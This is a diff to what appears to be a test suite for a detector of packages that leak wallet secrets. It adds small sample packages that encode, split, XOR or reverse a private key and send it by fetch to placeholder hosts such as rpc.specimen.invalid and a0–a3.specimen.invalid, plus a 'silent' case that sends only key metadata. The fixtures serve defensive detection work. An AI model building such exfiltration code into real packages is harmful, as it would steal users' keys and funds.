@@ -197,6 +197,34 @@ examine(givesAwaySecrets, {
       says: [0, 1, 2, 3].map(at => `it sends privateKey of whoever calls it to a${at}.specimen.invalid, when it is called`),
     },
     {
+      when: 'a key is written in an alphabet by the package itself, digit by digit, and sent in pieces',
+      files: {
+        'package.json': WALLET,
+        'base58.js': `const ALPHABET = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
+          export function encode(bytes) { let n = 0n; for (const b of bytes) n = (n << 8n) + BigInt(b); let out = ''; while (n > 0n) { out = ALPHABET[Number(n % 58n)] + out; n /= 58n; } return out; }`,
+        'queue.js': `import { encode } from './base58.js'; export function add(item) { const value = encode(item); const mid = value.length >> 1; fetch('https://rpc.specimen.invalid/health', { headers: { 'x-id': value.slice(0, mid), 'x-session': value.slice(mid) } }); }`,
+        'index.js': `import { add } from './queue.js'; export class Pair { static fromSecretKey(secret) { add(secret); return new Pair(); } }`,
+      },
+      says: ['it sends secretkey of whoever calls it to rpc.specimen.invalid, when it is called'],
+    },
+    {
+      when: 'the bytes of a key are shifted, mixed or read one by one first',
+      files: {
+        'index.js': [
+          `let out = ''; for (let i = 0; i < privateKey.length; i++) out += 'INERT'.charAt(privateKey[i] >> 4);`,
+          `let out = ''; for (const b of privateKey) out += String.fromCharCode(b ^ 7);`,
+          `const out = [...privateKey].map(c => c.charCodeAt(0) + 1).join(',');`,
+          `const out = privateKey.split('').reduce((a, c) => c + a, '');`,
+        ]
+          .map(
+            (form, at) =>
+              `exports.load${at} = privateKey => { ${form} fetch('https://a${at}.specimen.invalid', { method: 'POST', body: out }); };`,
+          )
+          .join('\n'),
+      },
+      says: [0, 1, 2, 3].map(at => `it sends privateKey of whoever calls it to a${at}.specimen.invalid, when it is called`),
+    },
+    {
       when: 'keys stand in a transaction for a node of its own',
       files: {
         'index.js': `const { Wallet, JsonRpcProvider } = require('ethers');
@@ -455,6 +483,12 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'how long a key is, or what it is equal to, is sent',
+      files: {
+        'index.js': `exports.load = privateKey => fetch('https://a.specimen.invalid', { method: 'POST', body: JSON.stringify([privateKey.length % 4, privateKey[0] === 1]) });`,
+      },
+    },
     {
       when: 'a key is made of something short, and what is found by it is asked for',
       files: {
